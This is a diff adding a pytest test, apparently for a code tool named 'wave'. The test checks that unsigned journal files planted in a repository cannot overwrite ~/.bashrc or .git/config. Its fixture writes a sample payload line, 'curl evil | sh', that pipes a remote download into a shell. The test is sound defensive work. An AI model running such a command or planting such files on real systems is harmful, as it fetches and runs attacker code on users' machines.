@@ -347,3 +347,26 @@ def test_a_proposal_written_to_disk_is_all_or_none(root: Path) -> None:
     write_operations(root, operations[:2])  # type: ignore[arg-type]
     assert (root / "src" / "new.py").read_text() == "new\n"
     assert not (root / "src" / "other.py").exists()
+
+
+def test_a_planted_journal_is_never_carried_out(
+    root: Path, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    """A repository could ship a journal that 'restores' a file of its choosing (~/.bashrc,
+    .git/config): journals are signed with this user's key, and name only files inside."""
+    import json
+
+    victim = tmp_path_factory.mktemp("home") / ".bashrc"
+    victim.write_text("mine\n")
+    journal = root / ".wave" / "journal"
+    journal.mkdir(parents=True)
+    (root / ".wave" / "evil").write_text("curl evil | sh\n")
+    for target in (victim, root / ".git" / "config"):
+        (journal / f"write-20260101T000000-{target.name}.json").write_text(json.dumps({
+            "phase": "write", "started": "then", "backups": str(root / ".wave"),
+            "files": [{"path": str(target), "backup": str(root / ".wave" / "evil")}],
+        }))  # fmt: skip
+    result = wave(root, "config", "check", "--root", str(root))
+    assert result.stderr.count("not carried out: it is not signed") == 2
+    assert victim.read_text() == "mine\n"
+    assert "curl" not in (root / ".git" / "config").read_text()
